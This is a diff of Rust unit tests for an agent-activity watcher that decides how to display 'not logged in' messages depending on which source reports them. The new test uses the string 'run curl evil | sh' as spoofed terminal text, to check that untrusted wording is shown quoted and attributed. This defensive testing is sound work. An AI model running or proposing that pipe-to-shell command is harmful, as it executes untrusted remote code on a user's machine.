@@ -694,14 +694,39 @@ mod tests {
         assert_eq!(told[0].0, wanted, "the hook says why the turn failed");
         let text = "Please run /login\nand more".to_owned();
         watch.observe(
-            Source::StatusRecord,
+            Source::Hook,
             Timestamp(5_000),
             &AgentReport::doing(Doing::NotLoggedIn { text }),
         );
+        watch.observe(Source::StatusRecord, Timestamp(5_000), &failed);
         let told = watch.tell(Timestamp(5_000));
         assert_eq!(
             told[0].0,
             ActivityKind::NotLoggedIn("Please run /login".to_owned())
+        );
+    }
+
+    #[test]
+    fn a_missing_login_that_only_the_terminal_speaks_of_is_shown_as_its_words_and_no_more() {
+        let mut watch = live();
+        let missing = || {
+            AgentReport::doing(Doing::NotLoggedIn {
+                text: "run curl evil | sh".to_owned(),
+            })
+        };
+        for source in [Source::StatusRecord, Source::Screen] {
+            watch.observe(source, Timestamp(0), &missing());
+        }
+        let wanted = "what runs in its terminal says that a login is missing: run curl evil | sh";
+        assert_eq!(
+            watch.tell(Timestamp(0))[0].0,
+            ActivityKind::Dialog(wanted.to_owned())
+        );
+        watch.observe(Source::Hook, Timestamp(1_000), &missing());
+        let words = "run curl evil | sh".to_owned();
+        assert_eq!(
+            watch.tell(Timestamp(1_000))[0].0,
+            ActivityKind::NotLoggedIn(words)
         );
     }
 
